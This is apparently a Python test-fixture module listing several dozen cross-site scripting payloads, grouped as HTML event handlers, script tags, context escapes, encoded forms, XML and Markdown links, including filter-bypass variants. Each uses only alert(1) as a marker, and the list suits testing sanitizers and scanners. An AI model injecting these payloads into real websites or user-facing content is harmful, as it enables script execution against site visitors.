"""Texts that run a script wherever they are taken for markup, an address or a script: `alert` tells that one did."""

from __future__ import annotations

_XHTML = 'xmlns="http://www.w3.org/1999/xhtml"'
_HANDLERS = (
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<video><source onerror=alert(1)></video>",
    "<iframe onload=alert(1)></iframe>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<style onload=alert(1)></style>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src='x'/onerror=alert(1)>",
    "<img src=x\tonerror\n=\nalert(1)>",
    "<<img src=x onerror=alert(1)>",
    "<a id=x tabindex=1 onfocus=alert(1) autofocus>x</a>",
)
_SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=data:text/javascript,alert(1)></script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:text/javascript,alert(1) /></svg>",
    "<math><mtext><script>alert(1)</script></mtext></math>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<iframe src=javascript:parent.alert(1)></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:/**/alert(1)//>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
)
_ESCAPES = (
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</noscript><script>alert(1)</script>",
    "</template><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--</script><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" autofocus onfocus="alert(1)',
    "' autofocus onfocus='alert(1)",
    "` onfocus=alert(1) autofocus `",
    '";alert(1);//',
    "';alert(1);//",
    "\\';alert(1);//",
    "${alert(1)}",
    "{{constructor.constructor('alert(1)')()}}",
    "\u2028alert(1)\u2028",
    "</v><img src=x onerror=alert(1)>",
)
_ENCODED = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
)
_IN_XML = (
    f"<script {_XHTML}>alert(1)</script>",
    f"]]><script {_XHTML}>alert(1)</script><![CDATA[",
    '<x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
    f"<img {_XHTML} src='x' onerror='alert(1)'/>",
    "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    f"<iframe {_XHTML} src='javascript:parent.alert(1)'/>",
    f"</title><script {_XHTML}>alert(1)</script><title>",
    f"?><script {_XHTML}>alert(1)</script>",
    f"--><script {_XHTML}>alert(1)</script><!--",
)
_IN_MARKDOWN = (
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)",
    "`<img src=x onerror=alert(1)>`",
)
PAYLOADS: tuple[str, ...] = (*_HANDLERS, *_SCRIPTS, *_ESCAPES, *_ENCODED, *_IN_XML, *_IN_MARKDOWN)
"""Each on one line, but for what only works over several."""
